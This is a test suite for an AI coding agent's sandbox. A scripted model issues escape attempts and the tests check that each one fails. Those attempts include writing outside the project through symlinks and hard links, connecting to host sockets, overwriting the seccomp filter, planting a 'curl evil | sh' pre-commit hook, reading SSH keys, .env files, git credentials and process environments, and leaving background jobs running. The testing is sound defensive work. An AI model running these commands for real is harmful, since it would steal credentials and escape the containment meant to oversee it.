// The sandbox through the real binary in print mode (the default: workspace-write and permission
// mode auto), against the scripted server. Every escape attempt is checked on disk or on the wire.
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import net from "node:net";
import path from "node:path";
import { describe, expect, it } from "vitest";
import type { TempHome } from "../support/cli.js";
import { withHomeAndServer } from "../support/hooks.js";
import type { LlmServer } from "../support/llm-server.js";
import { waitUntil } from "../support/wait-until.js";
import { processesWith, runIn, sandboxEnv, scriptBash, toolResultsOnWire } from "./sandbox-helpers.js";

let home: TempHome;
let server: LlmServer;
withHomeAndServer((h, s) => {
  home = h;
  server = s;
});

const inHome = (...parts: string[]) => path.join(home.home, ...parts);
const inProject = (...parts: string[]) => path.join(home.workDir, ...parts);

describe("sandboxed bash (workspace-write, auto)", () => {
  it("writes inside the project land; writes outside it fail by every route", async () => {
    writeFileSync(inHome(".bashrc"), "original\n");
    symlinkSync(inHome(".bashrc"), inProject("rc-link"));
    scriptBash(server, {
      command: [
        "echo inside > inside.txt",
        `echo abs > ${inHome("outside-abs.txt")}`,
        "echo dotdot > ../outside-dotdot.txt",
        "echo link >> rc-link",
        `ln ${inHome(".bashrc")} hard-link && echo hard >> hard-link`,
        "echo tmp > /tmp/agenix-sandbox-test-outside.txt",
        `echo own-tmp > ${inHome("tmp", "scratch.txt")}`,
        "true",
      ].join("; "),
    });
    const result = await runIn(home, ["-p", "--output-format", "json", "go"], sandboxEnv(home, server));
    expect(result.code, result.stderr).toBe(0);
    const json = JSON.parse(result.stdout);
    expect(json).toMatchObject({ sandbox: "workspace-write", permission_mode: "auto", denied: [] });
    expect(readFileSync(inProject("inside.txt"), "utf8")).toBe("inside\n");
    expect(readFileSync(inHome("tmp", "scratch.txt"), "utf8")).toBe("own-tmp\n");
    expect(readFileSync(inHome(".bashrc"), "utf8")).toBe("original\n");
    expect(existsSync(inHome("outside-abs.txt"))).toBe(false);
    expect(existsSync(inHome("outside-dotdot.txt"))).toBe(false);
    expect(existsSync(inProject("hard-link"))).toBe(false);
    expect(existsSync("/tmp/agenix-sandbox-test-outside.txt")).toBe(false);
    expect(toolResultsOnWire(server)[0]).toContain("Read-only file system");
  });

  it("cannot reach a Unix socket on the host (a tmux server, an agent), nor change the filter that stops it", async () => {
    // A server outside the sandbox, its socket in the temp directory every sandbox can see and write.
    mkdirSync(inHome("tmp"), { recursive: true });
    const socketPath = inHome("tmp", "host-agent.sock");
    let connections = 0;
    const unixServer = net.createServer((socket) => {
      connections++;
      socket.end("you are out\n");
    });
    await new Promise<void>((resolve) => unixServer.listen(socketPath, resolve));
    try {
      const connect = `node -e 'require("net").connect(process.argv[1]).on("connect", () => console.log("connected")).on("error", (e) => console.log("refused", e.code))' ${socketPath}`;
      const filter = inHome(".agenix", "sandbox", `no-unix-sockets-${process.arch}.bpf`);
      scriptBash(server, {
        command: `${connect}; echo allow-all > ${filter}; ls ${path.dirname(filter)} | wc -l`,
      });
      const result = await runIn(home, ["-p", "go"], sandboxEnv(home, server));
      expect(result.code, result.stderr).toBe(0);
      const out = toolResultsOnWire(server)[0]!;
      expect(out).toContain("refused EPERM");
      expect(out).not.toContain("connected");
      expect(connections).toBe(0);
      // The filter's folder is hidden inside the sandbox (empty, read-only) and unchanged outside it.
      expect(out).toContain("Read-only file system");
      expect(readFileSync(filter).length).toBeGreaterThan(0);
      expect(readFileSync(filter, "latin1")).not.toContain("allow-all");
      // The same command through `agenix sandbox --`.
      const direct = await runIn(home, ["sandbox", "--", "sh", "-c", connect], sandboxEnv(home, server));
      expect(direct.stdout).toContain("refused EPERM");
      expect(connections).toBe(0);
      // Outside the sandbox the server answers (the test's own check that it listens).
      await new Promise<void>((resolve, reject) =>
        net
          .connect(socketPath)
          .on("data", () => resolve())
          .on("error", reject),
      );
      expect(connections).toBe(1);
    } finally {
      unixServer.close();
    }
  });

  it("cannot write .git/hooks/pre-commit or .git/config (nor .agenix)", async () => {
    mkdirSync(inProject(".git", "hooks"), { recursive: true });
    writeFileSync(inProject(".git", "config"), "[core]\n");
    mkdirSync(inProject(".agenix"));
    scriptBash(server, {
      command:
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; " +
        "echo '[core] hooksPath = /tmp' >> .git/config; echo '{}' > .agenix/settings.json; echo ok > src.txt",
    });
    const result = await runIn(home, ["-p", "go"], sandboxEnv(home, server));
    expect(result.code, result.stderr).toBe(0);
    expect(existsSync(inProject(".git", "hooks", "pre-commit"))).toBe(false);
    expect(readFileSync(inProject(".git", "config"), "utf8")).toBe("[core]\n");
    expect(existsSync(inProject(".agenix", "settings.json"))).toBe(false);
    expect(readFileSync(inProject("src.txt"), "utf8")).toBe("ok\n");
  });

  it("cannot create .git, .agenix or .claude when they do not exist, and leaves no folder behind", async () => {
    scriptBash(server, {
      command:
        "mkdir -p .agenix/extensions; echo x > .agenix/extensions/evil.ts; mkdir -p .claude; " +
        "echo '{}' > .claude/settings.json; git init -q; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit; " +
        "echo ok > src.txt",
    });
    const result = await runIn(home, ["-p", "go"], sandboxEnv(home, server));
    expect(result.code, result.stderr).toBe(0);
    expect(readFileSync(inProject("src.txt"), "utf8")).toBe("ok\n");
    // The empty read-only mount points bubblewrap made are gone once the session ended.
    for (const name of [".agenix", ".claude", ".git"]) expect(existsSync(inProject(name)), name).toBe(false);
    expect(toolResultsOnWire(server)[0]).toContain("Read-only file system");
  });

  it("cannot read the project's .env through the checkpoints' snapshots or the sessions folder, on a first run", async () => {
    writeFileSync(inProject(".env"), "API_TOKEN=ENV-CANARY-4\n");
    scriptBash(
      server,
      { command: "echo step > a.txt" },
      {
        command:
          "for d in ~/.agenix/checkpoints/*/; do git --git-dir=$d log --all -p; done 2>&1 | grep CANARY; " +
          "cat ~/.agenix/sessions/*/*.json 2>&1 | grep -c CANARY; ls -A ~/.agenix/checkpoints ~/.agenix/sessions; echo end",
      },
    );
    const result = await runIn(home, ["-p", "go"], sandboxEnv(home, server));
    expect(result.code, result.stderr).toBe(0);
    // The snapshot exists outside the sandbox (so there was something to read) ...
    expect(readdirSync(inHome(".agenix", "checkpoints")).length).toBeGreaterThan(0);
    // ... but nothing of it, nor of the sessions folder, reached the model.
    expect(JSON.stringify(server.requests.map((r) => r.body))).not.toContain("ENV-CANARY-4");
    // Both folders look empty inside the sandbox.
    expect(toolResultsOnWire(server)[1]).toMatch(/^0\n\S+checkpoints:\n\n\S+sessions:\nend\n?$/);
  });

  it("cannot read ~/.ssh/id_ed25519 or the project's .env (nothing of them reaches the model)", async () => {
    mkdirSync(inHome(".ssh"));
    writeFileSync(inHome(".ssh", "id_ed25519"), "PRIVATE-KEY-CANARY-1\n");
    writeFileSync(inProject(".env"), "API_TOKEN=ENV-CANARY-2\n");
    mkdirSync(inProject("config"));
    writeFileSync(inProject("config", "server.pem"), "PEM-CANARY-3\n");
    writeFileSync(inHome(".git-credentials"), "https://u:GITCRED-CANARY-5@example.com\n");
    scriptBash(server, {
      command:
        "cat ~/.ssh/id_ed25519; cat .env; cat config/server.pem; cat ~/.git-credentials; ls ~/.ssh; grep -r CANARY . ~ 2>/dev/null; " +
        "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -i key; echo end",
    });
    const result = await runIn(home, ["-p", "go"], sandboxEnv(home, server));
    expect(result.code, result.stderr).toBe(0);
    const wire = JSON.stringify(server.requests.map((r) => r.body));
    expect(wire).not.toContain("PRIVATE-KEY-CANARY-1");
    expect(wire).not.toContain("ENV-CANARY-2");
    expect(wire).not.toContain("PEM-CANARY-3");
    expect(wire).not.toContain("GITCRED-CANARY-5");
    // Nor the API key agenix uses, not even from another process's environment inside the sandbox.
    expect(JSON.stringify(toolResultsOnWire(server))).not.toContain("sk-test-key-123");
    expect(toolResultsOnWire(server)[0]).toContain("end");
    // The files themselves are untouched.
    expect(readFileSync(inProject(".env"), "utf8")).toBe("API_TOKEN=ENV-CANARY-2\n");
  });

  it("an npm test-like command runs without a prompt and its writes land", async () => {
    writeFileSync(
      inProject("package.json"),
      JSON.stringify({
        name: "demo",
        version: "1.0.0",
        scripts: { test: "node -e \"require('fs').writeFileSync('result.txt','passed')\"" },
      }),
    );
    scriptBash(server, { command: "npm test" });
    const result = await runIn(
      home,
      ["-p", "--output-format", "json", "run the tests"],
      sandboxEnv(home, server),
    );
    expect(result.code, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout).denied).toEqual([]);
    expect(readFileSync(inProject("result.txt"), "utf8")).toBe("passed");
  });

  it("a background server answers a later command on the sandbox's loopback, and dies with the session", async () => {
    const marker = `agenix-bg-${process.pid}-${Date.now()}`;
    const serverJs = "require('http').createServer((q,s)=>s.end('pong')).listen(47123,'127.0.0.1');";
    writeFileSync(inProject("serve.js"), serverJs);
    scriptBash(
      server,
      // The marker on the command line finds the server in /proc afterwards.
      { command: `node serve.js ${marker} > /dev/null 2>&1 & echo started` },
      {
        command:
          'for i in $(seq 100); do out=$(curl -s http://127.0.0.1:47123/) && [ -n "$out" ] && echo "got $out" && break; sleep 0.05; done',
      },
    );
    const result = await runIn(home, ["-p", "go"], sandboxEnv(home, server));
    expect(result.code, result.stderr).toBe(0);
    expect(toolResultsOnWire(server)[1]).toContain("got pong");
    // The session is over: nothing it started is left (the PID namespace ended with it).
    expect(processesWith(marker)).toEqual([]);
  });

  it("a background job does not survive agenix being killed", async () => {
    const marker = `agenix-killed-${process.pid}-${Date.now()}`;
    writeFileSync(inProject("forever.sh"), "while true; do sleep 1; done\n");
    // The second call never gets an answer: agenix is killed while waiting for the model.
    server.push(
      {
        text: "",
        toolCalls: [
          { id: "call_1", name: "bash", arguments: { command: `bash forever.sh ${marker} & echo started` } },
        ],
      },
      { fault: "hang" },
    );
    const env = sandboxEnv(home, server);
    const { spawn } = await import("node:child_process");
    const { binPath } = await import("../support/cli.js");
    const child = spawn(process.execPath, [binPath, "-p", "go"], { cwd: home.workDir, env, stdio: "ignore" });
    const deadline = Date.now() + 30_000;
    while (server.requests.length < 2 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
    await waitUntil(() => processesWith(marker).length > 0, "the background job is running");
    child.kill("SIGKILL");
    await new Promise((resolve) => child.once("exit", resolve));
    let left = processesWith(marker);
    while (left.length > 0 && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 20));
      left = processesWith(marker);
    }
    expect(left).toEqual([]);
  });
});
